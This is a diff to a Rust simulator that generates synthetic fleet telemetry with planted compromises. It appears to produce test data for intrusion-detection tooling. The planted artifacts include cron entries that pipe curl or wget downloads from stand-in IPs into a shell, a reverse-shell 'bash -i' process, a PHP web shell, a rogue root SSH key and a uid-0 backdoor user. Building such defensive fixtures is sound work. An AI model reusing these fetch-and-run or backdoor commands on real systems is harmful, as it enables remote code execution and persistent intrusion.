@@ -16,7 +16,14 @@
 //! - legitimate cohorts: a canary of the next app version (new binary hash, a
 //!   new sidecar process and listener, a new flag), and optionally hosts of
 //!   another instance type (another NIC driver);
-//! - planted compromises, each with its own random artifacts.
+//! - planted compromises, each with its own random artifacts;
+//! - campaigns: one compromise run across many hosts, the same artifact on
+//!   each (one IP, one key, one module name), on a share of the fleet chosen
+//!   among the hosts of the old version (what one exploit reaches).
+//!
+//! File hashes carry `package_check` as the shell pack reports it: `ok` when
+//! the file matches the checksum its package recorded, `mismatch` when it
+//! does not (a replaced binary), `unpackaged` for files no package owns.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::fmt;
@@ -50,11 +57,13 @@ pub enum Compromise {
     Uid0User,
     /// A modified system binary (different SHA-256).
     ModifiedBinary,
+    /// A PHP web shell serving on a new port.
+    WebShell,
 }
 
 impl Compromise {
     /// Every kind.
-    pub const ALL: [Compromise; 7] = [
+    pub const ALL: [Compromise; 8] = [
         Compromise::ReverseShell,
         Compromise::TmpListener,
         Compromise::MaliciousCron,
@@ -62,6 +71,7 @@ impl Compromise {
         Compromise::RootKey,
         Compromise::Uid0User,
         Compromise::ModifiedBinary,
+        Compromise::WebShell,
     ];
 
     /// The query whose rows show it.
@@ -74,6 +84,7 @@ impl Compromise {
             Compromise::RootKey => "authorized_keys",
             Compromise::Uid0User => "users",
             Compromise::ModifiedBinary => "file_hashes",
+            Compromise::WebShell => "listening_ports",
         }
     }
 }
@@ -88,6 +99,7 @@ impl fmt::Display for Compromise {
             Compromise::RootKey => "root_key",
             Compromise::Uid0User => "uid0_user",
             Compromise::ModifiedBinary => "modified_binary",
+            Compromise::WebShell => "web_shell",
         })
     }
 }
@@ -105,6 +117,9 @@ pub struct FleetSpec {
     pub other_instance_type: f64,
     /// Compromises to plant, each on its own host.
     pub compromises: Vec<Compromise>,
+    /// Campaigns: each compromise with one artifact on this share of the
+    /// fleet's hosts (rounded, at least 2), chosen outside the canary.
+    pub campaigns: Vec<(Compromise, f64)>,
     /// Whether to add per-host noise events (admin sessions, transient
     /// processes, on-demand modules, failed queries).
     pub noise: bool,
@@ -127,7 +142,22 @@ impl FleetSpec {
         } else {
             Compromise::ALL.iter().chain(Compromise::ALL.iter()).copied().collect()
         };
-        Self { hosts, seed, canary: 0.10, other_instance_type: 0.0, compromises, noise: true, labels: false }
+        Self {
+            hosts,
+            seed,
+            canary: 0.10,
+            other_instance_type: 0.0,
+            compromises,
+            campaigns: Vec::new(),
+            noise: true,
+            labels: false,
+        }
+    }
+
+    /// Adds a campaign: `kind` with one artifact on `share` of the hosts.
+    pub fn campaign(mut self, kind: Compromise, share: f64) -> Self {
+        self.campaigns.push((kind, share));
+        self
     }
 
     /// Sets the compromises.
@@ -172,6 +202,8 @@ pub struct Truth {
     pub canary: BTreeSet<String>,
     /// Hosts of the other instance type.
     pub other_instance_type: BTreeSet<String>,
+    /// Each campaign's kind and hosts (also in `compromised`).
+    pub campaigns: Vec<(Compromise, BTreeSet<String>)>,
 }
 
 impl Truth {
@@ -203,7 +235,8 @@ struct Plan {
     ids: Vec<String>,
     roles: Vec<Role>,
     other_type: Vec<bool>,
-    planted: Vec<Option<Compromise>>,
+    /// What each host has planted, and the campaign it belongs to.
+    planted: Vec<Option<(Compromise, Option<usize>)>>,
 }
 
 fn plan(spec: &FleetSpec) -> Plan {
@@ -238,7 +271,17 @@ fn plan(spec: &FleetSpec) -> Plan {
                 None => break,
             }
         };
-        planted[host] = Some(*c);
+        planted[host] = Some((*c, None));
+    }
+    // Campaigns reach hosts of the old version: first the other instance
+    // type's and the clean ones left, in random order.
+    rest.retain(|&h| planted[h].is_none());
+    for (n, (c, share)) in spec.campaigns.iter().enumerate() {
+        let want = ((share * spec.hosts as f64).round() as usize).max(2);
+        assert!(rest.len() >= want, "campaign {n} ({c}, {share}) needs {want} hosts; {} are left", rest.len());
+        for h in rest.split_off(rest.len() - want) {
+            planted[h] = Some((*c, Some(n)));
+        }
     }
     Plan { ids, roles, other_type, planted }
 }
@@ -261,8 +304,15 @@ pub fn generate(spec: &FleetSpec) -> (Vec<SimHost>, Truth) {
 fn truth(spec: &FleetSpec, p: &Plan) -> Truth {
     let mut t = Truth { hosts: p.ids.clone(), ..Default::default() };
     for i in 0..spec.hosts {
-        if let Some(c) = p.planted[i] {
+        if let Some((c, campaign)) = p.planted[i] {
             t.compromised.insert(p.ids[i].clone(), c);
+            if let Some(n) = campaign {
+                if t.campaigns.len() <= n {
+                    t.campaigns.resize(n + 1, (c, BTreeSet::new()));
+                }
+                t.campaigns[n].0 = c;
+                t.campaigns[n].1.insert(p.ids[i].clone());
+            }
         }
         if p.roles[i] == Role::Canary {
             t.canary.insert(p.ids[i].clone());
@@ -296,6 +346,7 @@ pub fn write_fleet(spec: &FleetSpec, dir: &Path, baseline: bool) -> std::io::Res
             canary: 0.0,
             other_instance_type: 0.0,
             compromises: vec![],
+            campaigns: vec![],
             noise: false,
             labels: false,
         };
@@ -897,10 +948,20 @@ fn host(spec: &FleetSpec, p: &Plan, i: usize) -> SimHost {
         ),
     ];
 
-    let mut hashes: Vec<Row> =
-        SYSTEM_BINARIES.iter().map(|p| row(&[("path", p.to_string()), ("sha256", image_hash(p))])).collect();
+    // The next image (the canary's) has a newer curl package.
+    let mut hashes: Vec<Row> = SYSTEM_BINARIES
+        .iter()
+        .map(|p| {
+            let version = if canary && *p == "/usr/bin/curl" { "/usr/bin/curl 8.5" } else { p };
+            row(&[("path", p.to_string()), ("sha256", image_hash(version)), ("package_check", "ok".into())])
+        })
+        .collect();
     let app_version = if canary { "app-1.5.0" } else { "app-1.4.2" };
-    hashes.push(row(&[("path", "/opt/app/app.jar".into()), ("sha256", image_hash(app_version))]));
+    hashes.push(row(&[
+        ("path", "/opt/app/app.jar".into()),
+        ("sha256", image_hash(app_version)),
+        ("package_check", "unpackaged".into()),
+    ]));
 
     let suid: Vec<Row> = SUID
         .iter()
@@ -913,8 +974,10 @@ fn host(spec: &FleetSpec, p: &Plan, i: usize) -> SimHost {
             ])
         })
         .collect();
+    let canary_units: &[&str] = if canary { &["envoy.service"] } else { &[] };
     let startup: Vec<Row> = SERVICES
         .iter()
+        .chain(canary_units)
         .map(|s| {
             row(&[
                 ("name", s.to_string()),
@@ -996,17 +1059,26 @@ fn host(spec: &FleetSpec, p: &Plan, i: usize) -> SimHost {
                 "/etc/cron.d/debug",
             ));
         }
-        // Queries that timed out on a few hosts.
+        // Queries that timed out on a few hosts; never the one that holds
+        // what was planted, so that the truth stays checkable.
         if c.rng.random_bool(0.01) {
-            failed = Some(["suid_bin", "file_hashes", "startup_items"].choose(&mut c.rng).unwrap());
+            let q = ["suid_bin", "file_hashes", "startup_items"].choose(&mut c.rng).unwrap();
+            if planted.is_none_or(|(k, _)| k.query() != *q) {
+                failed = Some(q);
+            }
         }
     }
 
-    // The planted compromise, with artifacts of its own.
-    match planted {
+    // The planted compromise, with artifacts of its own; a campaign's are
+    // the same on every host it reached (only pids and times differ).
+    let mut art = match planted {
+        Some((_, Some(n))) => SmallRng::seed_from_u64(splitmix(spec.seed ^ 0xca3a_1900 ^ n as u64)),
+        _ => SmallRng::seed_from_u64(c.rng.random()),
+    };
+    match planted.map(|(k, _)| k) {
         Some(Compromise::ReverseShell) => {
-            let ip = format!("203.0.113.{}", c.rng.random_range(2..250));
-            let port = [4444, 443, 8443, 9001, 1337].choose(&mut c.rng).unwrap();
+            let ip = format!("203.0.113.{}", art.random_range(2..250));
+            let port = [4444, 443, 8443, 9001, 1337].choose(&mut art).unwrap();
             let sh = c.process(
                 &nginx_pid,
                 33,
@@ -1022,29 +1094,29 @@ fn host(spec: &FleetSpec, p: &Plan, i: usize) -> SimHost {
             procs.push(c.process(&pid, 33, "bash", "/usr/bin/bash", "bash -i"));
         }
         Some(Compromise::TmpListener) => {
-            let dir = [".ICE-unix/.x", ".font-unix/.cache", ".X11-unix/..."].choose(&mut c.rng).unwrap();
-            let name = ["srv", "dbus", "kthreadd", "agent"].choose(&mut c.rng).unwrap();
-            let port = c.rng.random_range(40000..60000);
+            let dir = [".ICE-unix/.x", ".font-unix/.cache", ".X11-unix/..."].choose(&mut art).unwrap();
+            let name = ["srv", "dbus", "kthreadd", "agent"].choose(&mut art).unwrap();
+            let port = art.random_range(40000..60000);
             let path = format!("/tmp/{dir}/{name}");
             let pr = c.process("1", 33, name, &path, &format!("{path} -l {port}"));
             ports.push(listener(&pr["pid"], port, "6", "0.0.0.0", name, &path));
             procs.push(pr);
         }
         Some(Compromise::MaliciousCron) => {
-            let ip = format!("198.51.100.{}", c.rng.random_range(2..250));
-            let script = ["ld.sh", "x.sh", "update.sh", "i.sh"].choose(&mut c.rng).unwrap();
-            let cmd = if c.rng.random_bool(0.5) {
+            let ip = format!("198.51.100.{}", art.random_range(2..250));
+            let script = ["ld.sh", "x.sh", "update.sh", "i.sh"].choose(&mut art).unwrap();
+            let cmd = if art.random_bool(0.5) {
                 format!("curl -fsSL http://{ip}/{script} | sh")
             } else {
                 format!("wget -q -O - http://{ip}/{script} | bash > /dev/null 2>&1")
             };
-            let mut row = cron(&format!("*/{}", c.rng.random_range(2..15)), "*", &cmd, "/var/spool/cron/crontabs/root");
+            let mut row = cron(&format!("*/{}", art.random_range(2..15)), "*", &cmd, "/var/spool/cron/crontabs/root");
             row.insert("event".into(), String::new());
             crons.push(row);
         }
         Some(Compromise::KernelModule) => {
             let name = ["ipv6_helper", "crc_tune", "nvme_fastpath", "vmw_balloon_ext", "intel_pstate_x", "acpi_extra"]
-                .choose(&mut c.rng)
+                .choose(&mut art)
                 .unwrap();
             kmods.push(row(&[
                 ("name", name.to_string()),
@@ -1055,12 +1127,12 @@ fn host(spec: &FleetSpec, p: &Plan, i: usize) -> SimHost {
             ]));
         }
         Some(Compromise::RootKey) => {
-            let key = format!("AAAAB3NzaC1yc2EAAAADAQABAAABgQ{}", b64(&mut c.rng, 300));
-            let comment = ["root@kali", "", "user@DESKTOP-7Q2B1", "x"].choose(&mut c.rng).unwrap();
+            let key = format!("AAAAB3NzaC1yc2EAAAADAQABAAABgQ{}", b64(&mut art, 300));
+            let comment = ["root@kali", "", "user@DESKTOP-7Q2B1", "x"].choose(&mut art).unwrap();
             keys.push(key_row(0, "root", "/root/.ssh/authorized_keys", "", &key, comment));
         }
         Some(Compromise::Uid0User) => {
-            let name = ["sysadm", "toor", "backup2", "admin"].choose(&mut c.rng).unwrap();
+            let name = ["sysadm", "toor", "backup2", "admin"].choose(&mut art).unwrap();
             users.push(row(&[
                 ("username", name.to_string()),
                 ("uid", "0".into()),
@@ -1072,13 +1144,23 @@ fn host(spec: &FleetSpec, p: &Plan, i: usize) -> SimHost {
         }
         Some(Compromise::ModifiedBinary) => {
             let target = ["/usr/bin/sudo", "/usr/sbin/sshd", "/usr/bin/ls", "/usr/bin/ps", "/usr/bin/login"]
-                .choose(&mut c.rng)
+                .choose(&mut art)
                 .unwrap();
             for h in &mut hashes {
                 if h["path"] == *target {
-                    h.insert("sha256".into(), hex(&mut c.rng, 64));
+                    h.insert("sha256".into(), hex(&mut art, 64));
+                    // Replaced after installation: its package's checksum no longer matches.
+                    h.insert("package_check".into(), "mismatch".into());
                 }
             }
+        }
+        Some(Compromise::WebShell) => {
+            let port = *[8888, 8081, 9090, 8000, 31337].choose(&mut art).unwrap();
+            let dir = ["uploads", "assets/img", "wp-content/cache"].choose(&mut art).unwrap();
+            let cmd = format!("php -S 0.0.0.0:{port} -t /var/www/html/{dir}");
+            let pr = c.process(&nginx_pid, 33, "php", "/usr/bin/php8.2", &cmd);
+            ports.push(listener(&pr["pid"], port, "6", "0.0.0.0", "php", "/usr/bin/php8.2"));
+            procs.push(pr);
         }
         None => {}
     }
@@ -1103,6 +1185,11 @@ fn host(spec: &FleetSpec, p: &Plan, i: usize) -> SimHost {
     if spec.labels {
         labels.insert("instance_type".into(), if other_type { "c5n.xlarge" } else { "m5.large" }.into());
         labels.insert("launch_template_version".into(), if canary { "8" } else { "7" }.into());
+        labels.insert("image_id".into(), if canary { "ami-0c0ffee0000000008" } else { "ami-0c0ffee0000000007" }.into());
+        // The old version's hosts were launched over weeks; the canary in the last half hour.
+        let launched = if canary { 1_765_200_000 + (boot % 1800) } else { boot };
+        let at = chrono::DateTime::from_timestamp(launched as i64, 0).expect("a time in range");
+        labels.insert("launch_time".into(), at.to_rfc3339_opts(chrono::SecondsFormat::Secs, true));
     }
     SimHost { instance_id: id.to_string(), labels, results }
 }
@@ -1117,7 +1204,7 @@ mod tests {
         let (a, ta) = generate(&spec);
         let (b, _) = generate(&spec);
         assert_eq!(serde_json::to_string(&a[3]).unwrap(), serde_json::to_string(&b[3]).unwrap());
-        assert_eq!(ta.compromised.len(), 7);
+        assert_eq!(ta.compromised.len(), Compromise::ALL.len());
         assert_eq!(ta.canary.len(), 6);
         let rows: usize = a[0].results.values().map(|v| v.as_array().map_or(0, Vec::len)).sum();
         assert!((250..450).contains(&rows), "{rows} rows per host");
